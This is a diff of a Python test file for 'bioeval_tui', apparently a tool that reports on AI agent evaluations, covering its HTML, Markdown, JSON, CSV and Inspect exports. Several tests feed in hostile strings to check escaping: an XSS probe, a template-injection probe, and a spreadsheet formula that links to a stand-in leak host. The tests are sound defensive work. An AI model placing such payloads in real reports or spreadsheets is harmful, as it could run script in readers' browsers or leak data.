@@ -20,21 +20,19 @@ import pytest
 from markdown_it import MarkdownIt
 from rich.console import Console
 
-from bioeval_tui.bundled.inspect.writing import inspect_log, inspect_zip
 from bioeval_tui.errors import UsageError
-from bioeval_tui.grade.task_report import TaskReport, now
+from bioeval_tui.formats import RunResult
+from bioeval_tui.grade.task_report import now
+from bioeval_tui.grading import TaskReport
 from bioeval_tui.record import events
 from bioeval_tui.record.transfer import import_file
-from bioeval_tui.report.explanation import explain, explanation_dict, parse_weights, print_explanation
 from bioeval_tui.report.formats.charts import composite_bar, latency_chart, medal_scale
 from bioeval_tui.report.formats.console import print_score_card
-from bioeval_tui.report.formats.html import html_report
-from bioeval_tui.report.formats.json_report import json_report
-from bioeval_tui.report.formats.junit import junit_xml
-from bioeval_tui.report.formats.markdown import escape, markdown_report
-from bioeval_tui.report.formats.tables import openai_lines, turns_csv
+from bioeval_tui.report.formats.markdown import escape
 from bioeval_tui.report.message_blocks import plain
-from bioeval_tui.report.result import RunResult, load_run
+from bioeval_tui.report.result import load_run
+from tests.command import call
+from tests.documents import document_of, table_of
 from tests.unit.report.recorded import GOLDEN, Recorded, Talk, scoring
 
 HOSTILE = (
@@ -82,7 +80,7 @@ class Elements(HTMLParser):
 
 
 def test_the_html_report_has_every_part_of_the_run(demo: RunResult) -> None:
-    page = Elements(html_report([demo]))
+    page = Elements(document_of("html", demo))
     for heading in (
         "Tasks", "Assertions, turn by turn", "Response times", "Facts ledger", "The conversations, side by side",
         "About this run", "Mean of both", "0.44", "0.72", "rehearsal", "turn 3, asked", "seed",
@@ -98,7 +96,7 @@ def test_the_html_report_has_every_part_of_the_run(demo: RunResult) -> None:
 
 
 def test_both_conditions_come_before_their_mean(demo: RunResult) -> None:
-    text = Elements(html_report([demo])).text
+    text = Elements(document_of("html", demo)).text
     assert (
         text.index("Facts withheld\n0.44") < text.index("Facts supplied\n1.00") < text.index("Mean of both")
     )
@@ -106,7 +104,7 @@ def test_both_conditions_come_before_their_mean(demo: RunResult) -> None:
 
 def test_the_html_report_needs_no_network_script_or_inline_style(demo: RunResult, hostile: RunResult) -> None:
     for run in (demo, hostile):
-        document = html_report([run])
+        document = document_of("html", run)
         assert "telephone=no, email=no" in document, "no browser makes links of what was said"
         for tag, attributes in Elements(document).elements:
             assert tag not in {"script", "img", "link", "iframe", "object", "embed", "form", "base", "video"}
@@ -119,17 +117,17 @@ def test_the_html_report_needs_no_network_script_or_inline_style(demo: RunResult
 
 
 def test_every_link_in_the_report_has_a_target(demo: RunResult) -> None:
-    elements = Elements(html_report([demo])).elements
+    elements = Elements(document_of("html", demo)).elements
     ids = [a["id"] for _, a in elements if "id" in a]
     links = {a["href"][1:] for _, a in elements if a.get("href")}
     assert len(ids) == len(set(ids))
     assert links
     assert links <= set(ids)
-    assert ">turn 2</a>" in html_report([demo])  # as the screens number it
+    assert ">turn 2</a>" in document_of("html", demo)  # as the screens number it
 
 
 def test_the_content_security_policy_allows_only_the_reports_stylesheet(demo: RunResult) -> None:
-    document = html_report([demo])
+    document = document_of("html", demo)
     policy = next(a["content"] for tag, a in Elements(document).elements if a.get("http-equiv"))
     style = re.search(r"<style>(.*?)</style>", document, re.DOTALL)
     assert style is not None
@@ -142,14 +140,14 @@ def test_the_content_security_policy_allows_only_the_reports_stylesheet(demo: Ru
 
 
 def test_hostile_text_is_shown_literally_in_the_report(hostile: RunResult) -> None:
-    document = html_report([hostile, hostile])
+    document = document_of("html", hostile, hostile)
     assert "<script" not in document
     assert "{{ 7*7 }}" in document
     assert html.escape("<script>alert(1)</script>") in document
 
 
 def test_evidence_is_highlighted_in_its_message(demo: RunResult) -> None:
-    marks = re.findall(r"<mark[^>]*>(.*?)</mark>", html_report([demo]), re.DOTALL)
+    marks = re.findall(r"<mark[^>]*>(.*?)</mark>", document_of("html", demo), re.DOTALL)
     assert "Which time zone are you in?" in marks
     assert "<strong>Warfarin and ibuprofen interact (major)</strong>" in marks
 
@@ -161,7 +159,7 @@ def test_several_trials_and_runs_show_their_statistics() -> None:
         ).loaded()
         for n in range(10)
     ]
-    text = Elements(html_report(runs)).text
+    text = Elements(document_of("html", *runs)).text
     for words in (
         "10 runs of 10 jobs",
         "clustered by job, 10 jobs",
@@ -170,7 +168,7 @@ def test_several_trials_and_runs_show_their_statistics() -> None:
         "k = 1: 0.000 [0.000, ",
     ):
         assert words in text
-    assert "clustered by job" in markdown_report(runs)
+    assert "clustered by job" in document_of("md", *runs)
 
 
 @pytest.mark.parametrize(
@@ -193,7 +191,7 @@ def test_a_value_that_was_not_measured_is_shown_as_such_and_never_as_zero() -> N
         "Without the facts the agent could not be scored (the judge failed); with the facts the agent could not be scored"
         " (not finished). The conditions cannot be compared: not clean."
     )
-    text = Elements(html_report([run.loaded()])).text
+    text = Elements(document_of("html", run.loaded())).text
     assert "not scored: task not measured: " in text
     assert "No difference: not clean." in text
     assert "could not be measured" in text
@@ -211,7 +209,7 @@ def test_the_card_of_several_trials_counts_them_by_task_and_assertion_and_can_sh
     assert re.search(r"1× check 1\s+✗ failed in 3 of 3\s+· not measured in 1 of 3", card)
     assert "clean: both conditions started from the same graph" in card
     assert "facts supplied: no score in 1 trial: task not measured" in card
-    for document in (html_report([run]), markdown_report([run])):
+    for document in (document_of("html", run), document_of("md", run)):
         assert "The run is clean: both conditions started from the same graph." in document
     print_score_card(run, console, trial=2)
     assert re.search(r"trial 2 of 3\n.*\n.*\n.*\n1 task 1\s+✗ 0.20\s+✗ 0.20", console.file.getvalue())
@@ -223,7 +221,7 @@ def test_the_judges_rating_of_tone_is_shown_and_not_in_the_score() -> None:
         console = Console(file=io.StringIO(), width=100)
         print_score_card(run, console)
         assert isinstance(console.file, io.StringIO)
-        return html_report([run]), markdown_report([run]), console.file.getvalue()
+        return document_of("html", run), document_of("md", run), console.file.getvalue()
 
     page, text, card = told(0.25, None)
     assert re.search(
@@ -233,7 +231,9 @@ def test_the_judges_rating_of_tone_is_shown_and_not_in_the_score() -> None:
     assert re.search(r"tone \(not in the score\)\s+0\.25\s+–", card)
     assert not any("tone (" in document for document in told(None, None))
     assert (
-        json_report([Recorded([Talk(tone=0.25)]).loaded()])["runs"][0]["conditions"]["withheld"]["tone"]
+        json.loads(document_of("json", Recorded([Talk(tone=0.25)]).loaded()))["runs"][0]["conditions"][
+            "withheld"
+        ]["tone"]
         == 0.25
     )
     silent, rude = (Recorded([Talk(tone=tone)]).loaded().state.scores() for tone in (None, 0.0))
@@ -242,7 +242,7 @@ def test_the_judges_rating_of_tone_is_shown_and_not_in_the_score() -> None:
 
 def test_every_document_calls_the_conditions_what_the_job_calls_them_and_ids_stay() -> None:
     run = Recorded([Talk(), Talk()], [Talk(), Talk()], names=("no card", "has <the> card")).loaded()
-    page, markdown = html_report([run]), markdown_report([run])
+    page, markdown = document_of("html", run), document_of("md", run)
     console = Console(file=io.StringIO(), width=100)
     print_score_card(run, console)
     assert isinstance(console.file, io.StringIO)
@@ -251,9 +251,9 @@ def test_every_document_calls_the_conditions_what_the_job_calls_them_and_ids_sta
         assert "facts withheld" not in document.lower()
     assert "has &lt;the&gt; card" in page
     assert "<the>" not in page
-    suites = ET.fromstring(junit_xml([run])).iter("testsuite")
+    suites = ET.fromstring(document_of("junit", run)).iter("testsuite")
     assert next(suites).get("name") == "job · facts withheld · trial 1"
-    assert set(json_report([run])["runs"][0]["conditions"]) == {"withheld", "supplied"}
+    assert set(json.loads(document_of("json", run))["runs"][0]["conditions"]) == {"withheld", "supplied"}
 
 
 def test_values_shared_by_several_conversations_are_shown_once() -> None:
@@ -266,7 +266,7 @@ def test_values_shared_by_several_conversations_are_shown_once() -> None:
 
 
 def test_markdown_cannot_be_made_into_markup(hostile: RunResult) -> None:
-    for text in (escape(HOSTILE), markdown_report([hostile])):
+    for text in (document_of("md", hostile), table_of("md", ["a"], [[HOSTILE]])):
         tokens = MarkdownIt("commonmark").enable("table").parse(text)
         flat = [child for token in tokens for child in [token, *(token.children or [])]]
         assert not {"html_block", "image", "link_open"} & {t.type for t in flat}
@@ -297,7 +297,7 @@ def test_recorded_text_never_starts_a_markdown_block(text: str) -> None:
 
 
 def test_the_markdown_report_says_what_the_html_report_says(demo: RunResult) -> None:
-    text = markdown_report([demo])
+    text = document_of("md", demo)
     for words in (
         "facts withheld **0.44**",
         "facts supplied **1.00**",
@@ -308,7 +308,7 @@ def test_the_markdown_report_says_what_the_html_report_says(demo: RunResult) -> 
 
 
 def test_the_json_report_has_results_and_statistics(demo: RunResult) -> None:
-    data = json.loads(json.dumps(json_report([demo]), allow_nan=False))
+    data = json.loads(document_of("json", demo), parse_constant=pytest.fail)
     assert data["runs"][0]["score"] == 0.72
     assert data["runs"][0]["versions"]["run"] == demo.run_id
     summary = data["summary"][0]
@@ -320,18 +320,20 @@ def test_the_json_report_has_results_and_statistics(demo: RunResult) -> None:
 def test_an_unsent_message_is_marked_and_not_exported() -> None:
     spoilt = Talk(reason="evaluator_failed", fault="evaluator", unsent="my secret thoughts")
     run = Recorded(withheld=[spoilt]).loaded()
-    talk = json_report([run])["runs"][0]["conditions"]["withheld"]
+    talk = json.loads(document_of("json", run))["runs"][0]["conditions"]["withheld"]
     assert [message["sent"] for message in talk["messages"]] == [True, True, False]
     assert talk["guards"] == [
         {"message": 3, "rule": "leak", "effect": "void", "mended": False, "detail": "shows reasoning"}
     ]
-    assert "**user** (not sent): my secret thoughts" in markdown_report([run])
-    assert '<p class="note unsent">not sent</p>' in html_report([run])
-    assert "my secret thoughts" not in openai_lines([run]) + turns_csv([run]) + inspect_log(run)
+    assert "**user** (not sent): my secret thoughts" in document_of("md", run)
+    assert '<p class="note unsent">not sent</p>' in document_of("html", run)
+    assert "my secret thoughts" not in document_of("openai-jsonl", run) + document_of(
+        "csv", run
+    ) + document_of("inspect", run)
 
 
 def test_an_openai_export_has_the_messages_in_order(demo: RunResult) -> None:
-    lines = [json.loads(line) for line in openai_lines([demo]).splitlines()]
+    lines = [json.loads(line) for line in document_of("openai-jsonl", demo).splitlines()]
     assert [line["metadata"]["condition"] for line in lines] == ["withheld", "supplied"]
     talk = demo.state.conversation("supplied")
     assert talk is not None
@@ -347,14 +349,14 @@ def test_an_openai_export_has_the_messages_in_order(demo: RunResult) -> None:
 
 def test_the_csv_export_has_one_row_for_each_turn_and_no_formula() -> None:
     run = Recorded([Talk(says='=HYPERLINK("http://leak.example"),"x"\nsecond', latencies_ms=(100, 200))])
-    rows = list(csv.DictReader(io.StringIO(turns_csv([run.loaded()]))))
+    rows = list(csv.DictReader(io.StringIO(document_of("csv", run.loaded()))))
     assert [(row["turn"], row["latency_ms"]) for row in rows] == [("1", "100.000"), ("2", "200.000")]
     assert rows[0]["agent"] == '\'=HYPERLINK("http://leak.example"),"x"\nsecond'
     assert rows[0]["tokens_in"] == ""  # unknown, not 0
 
 
 def test_an_inspect_log_has_the_published_shape(demo: RunResult) -> None:
-    log = json.loads(inspect_log(demo))
+    log = json.loads(document_of("inspect", demo))
     assert (log["version"], log["status"], log["eval"]["task"]) == (2, "success", "medication_reminder")
     metrics = {score["name"]: score["metrics"] for score in log["results"]["scores"]}
     assert {name: metric["value"] for name, metric in metrics["composite"].items()} == {
@@ -371,7 +373,7 @@ def test_an_inspect_log_has_the_published_shape(demo: RunResult) -> None:
 
 
 def test_an_inspect_log_of_an_unmeasured_run_leaves_scores_out() -> None:
-    log = json.loads(inspect_log(Recorded([Talk(tasks=None)]).loaded()))
+    log = json.loads(document_of("inspect", Recorded([Talk(tasks=None)]).loaded()))
     assert "composite" not in log["samples"][0]["scores"]
     assert log["samples"][0]["error"]["message"].startswith("task not measured")
     assert (log["results"]["total_samples"], log["results"]["completed_samples"]) == (1, 0)
@@ -380,29 +382,28 @@ def test_an_inspect_log_of_an_unmeasured_run_leaves_scores_out() -> None:
 def test_an_imported_inspect_log_without_a_plan_is_exported_again(tmp_path: Path) -> None:
     log = GOLDEN.parent / "foreign" / "inspect-several-scorers.json"
     run = load_run(import_file(log, tmp_path / "runs").path)
-    with zipfile.ZipFile(io.BytesIO(inspect_zip(run))) as archive:
+    with zipfile.ZipFile(io.BytesIO(document_of("inspect", run, output=Path("a.eval")))) as archive:
         assert json.loads(archive.read("_journal/start.json")).keys() == {"version", "eval"}
 
 
-def test_an_explanation_agrees_with_the_formula(demo: RunResult) -> None:
-    found = explain(demo, 0.8, parse_weights("timing=0, tasks=2"))
-    withheld, supplied = explanation_dict(demo, found, 0.8)["conversations"]
+def test_an_explanation_agrees_with_the_formula() -> None:
+    asked = ("runs", "explain", GOLDEN, "--target", "0.8", "--weights", "timing=0, tasks=2")
+    withheld, supplied = json.loads(call(*asked, "--json").stdout)["conversations"]
     assert withheld["needed"]["assertion"]["needed"] == pytest.approx((0.8 * 7 - 1 - 1.5) / 4)
     assert withheld["needed"]["timing"] == {"now": 1.0, "needed": None, "best_score": 0.44}
     assert withheld["reweighted"] == {
         "score": round((2 * 0.75 + 4 / 7) / 6, 2), "weights": {"timing": 0.0, "task": 2.0, "assertion": 4.0},
     }  # fmt: skip
     assert supplied["needed"]["task"]["needed"] == pytest.approx(0.3)
-    file = io.StringIO()
-    print_explanation(found, 0.8, Console(file=file, width=120))
-    assert "to reach 0.80, assertions would have to rise from 0.14 to 0.78" in file.getvalue()
-    assert "timing alone cannot reach 0.80: even 1.00 gives 0.44" in file.getvalue()
+    shown = call(*asked).stdout
+    assert "to reach 0.80, assertions would have to rise from 0.14 to 0.78" in shown
+    assert "timing alone cannot reach 0.80: even 1.00 gives 0.44" in shown
 
 
 @pytest.mark.parametrize("text", ["speed=1", "timing=x", "timing=-1", "timing", "tasks=inf", "tasks=nan"])
 def test_an_invalid_weight_says_what_is_allowed(text: str) -> None:
     with pytest.raises(UsageError, match="--weights"):
-        parse_weights(text)
+        raise call("runs", "explain", GOLDEN, "--weights", text).exception or AssertionError
 
 
 def test_score_bars_end_at_the_score() -> None:
@@ -471,7 +472,7 @@ def test_the_report_contains_medal_cards() -> None:
         ({"score": 1}, None),
     ):
         talk.submissions.append(events.SubmissionGraded(**base, assertion=0, report=report, error=error))
-    text = Elements(html_report([loaded])).text
+    text = Elements(document_of("html", loaded)).text
     for words in (
         "◐ Silver",
         "oncology/x",
@@ -479,7 +480,7 @@ def test_the_report_contains_medal_cards() -> None:
         "the report cannot be read",
     ):
         assert words in text
-    assert "Silver" in markdown_report([loaded])
+    assert "Silver" in document_of("md", loaded)
 
 
 def test_the_report_contains_reviews(demo: RunResult) -> None:
@@ -491,5 +492,5 @@ def test_the_report_contains_reviews(demo: RunResult) -> None:
         "overridden", "ada", "2026-02-03T04:05:06Z", "withheld", 1, 1, 0.25, 0.5, "it did <b>ask</b>"
     )
     reviewed = replace(demo, reviews=(review,))
-    assert "it did &lt;b&gt;ask" in html_report([reviewed])
-    assert "Reviews and later scores" in markdown_report([reviewed])
+    assert "it did &lt;b&gt;ask" in document_of("html", reviewed)
+    assert "Reviews and later scores" in document_of("md", reviewed)
